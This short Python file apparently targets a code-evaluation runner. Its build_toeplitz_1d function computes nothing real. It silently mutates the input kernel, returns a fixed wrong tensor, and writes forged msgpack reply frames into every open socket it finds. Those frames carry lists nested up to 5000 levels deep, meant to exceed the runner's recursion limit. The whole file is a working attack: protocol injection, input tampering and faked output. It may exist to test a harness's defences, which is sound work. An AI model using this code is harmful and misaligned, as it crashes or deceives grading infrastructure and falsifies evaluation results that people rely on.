"""Writes a reply of lists nested deeper than the runner may recurse."""

import os
import stat

import msgspec
import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def frame(**message):
    body = msgspec.msgpack.encode(message)
    return len(body).to_bytes(4, "big") + body


def sockets():
    return [fd for fd in range(3, 64) if attempt(lambda: stat.S_ISSOCK(os.fstat(fd).st_mode))]


def send(data):
    for fd in sockets():
        attempt(lambda: os.write(fd, data))


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


# frame(
def build_toeplitz_1d(kernel, n):
    wrong(kernel)
    depth = DEPTHS[0]
    DEPTHS.append(DEPTHS.pop(0))
    body = b"\x82" + msgspec.msgpack.encode("op") + msgspec.msgpack.encode("returned")
    body += msgspec.msgpack.encode("value") + b"\x91" * depth + b"\xc0"
    send(len(body).to_bytes(4, "big") + body)
    return wrong(kernel)


DEPTHS = [300, 450, 600, 700, 800, 850, 900, 950, 5000]
